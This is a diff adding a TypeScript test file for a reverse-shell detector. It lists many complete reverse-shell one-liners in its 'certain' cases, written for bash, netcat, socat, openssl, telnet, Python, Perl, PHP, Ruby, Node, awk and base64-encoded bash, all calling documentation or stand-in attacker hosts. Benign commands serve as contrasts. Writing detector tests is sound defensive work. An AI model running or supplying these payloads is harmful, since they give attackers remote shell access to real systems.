@@ -1,0 +1,61 @@
+import { strict as assert } from 'node:assert';
+import { reverseShellIn } from '../../../shared/detection/reverse-shell.ts';
+
+const CERTAIN = [
+  'bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
+  'sh -c 0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196',
+  'bash -c exec 5<>/dev/tcp/evil.example.com/80;cat <&5 | while read line; do $line 2>&5 >&5; done',
+  'sh -i >& /dev/udp/203.0.113.9/53 0>&1',
+  "b''ash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+  'nc -e /bin/sh 203.0.113.9 4444',
+  'nc 203.0.113.9 4444 -e /bin/bash',
+  'busybox nc 203.0.113.9 4444 -e sh',
+  'ncat --sh-exec /bin/bash 203.0.113.9 4444',
+  'nc -lvnpe /bin/sh',
+  'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f',
+  'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4444 > /tmp/s',
+  'telnet 203.0.113.9 80 | /bin/sh | telnet 203.0.113.9 81',
+  "socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty,stderr",
+  'socat exec:/bin/sh tcp-connect:203.0.113.9:4444',
+  'python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
+  'perl -e use Socket;connect(S,sockaddr_in(4444,inet_aton("203.0.113.9")));open(STDIN,">&S");exec("/bin/sh -i");',
+  'php -r $s=fsockopen("203.0.113.9",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
+  'ruby -rsocket -e f=TCPSocket.open("203.0.113.9",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)',
+  'node -e require("child_process").exec("nc x");var c=new net.Socket();c.connect(4444,"203.0.113.9");sh=spawn("/bin/sh",[])',
+  'awk \'BEGIN{s="/inet/tcp/0/203.0.113.9/4444";while(1){s|&getline c;while((c|&getline)>0)print|&s}}\'',
+  'sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE= | base64 -d | bash',
+  'grep x $(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)',
+];
+const UNCERTAIN = ["bash -c '</dev/tcp/db/5432'", 'python3 -c \'import pty; pty.spawn("/bin/bash")\''];
+const NONE = [
+  'bash',
+  'bash -i',
+  'sh -c </dev/tcp/127.0.0.1/8080',
+  'sh -c exec 3<>/dev/tcp/localhost/80; echo -e "GET / HTTP/1.1" >&3; cat <&3',
+  'nc -z db 5432',
+  'nc -zv -w 1 db 5432',
+  'sh -c nc -l -p 8080 | tee /tmp/out',
+  'socat - UNIX-CONNECT:/var/run/haproxy.sock',
+  'socat TCP-LISTEN:8080,fork TCP:db:5432',
+  "grep -r 'nc -e /bin/sh' /",
+  'mkfifo /tmp/pipe',
+  'python3 manage.py shell',
+  'python3 -c import socket; print(socket.gethostname())',
+  'curl -s http://localhost:8080/healthz',
+  'openssl s_client -connect db:5432',
+  'perl -e print "hello"',
+  'php artisan queue:restart',
+];
+
+describe('a reverse shell in a command line', () => {
+  for (const line of CERTAIN) {
+    it(`is certain: ${line.slice(0, 70)}`, () => assert.equal(reverseShellIn(line)?.certain, true));
+  }
+  for (const line of UNCERTAIN) {
+    it(`is possible: ${line}`, () => assert.equal(reverseShellIn(line)?.certain, false));
+  }
+  for (const line of NONE) {
+    it(`is none: ${line}`, () => assert.equal(reverseShellIn(line), undefined));
+  }
+});
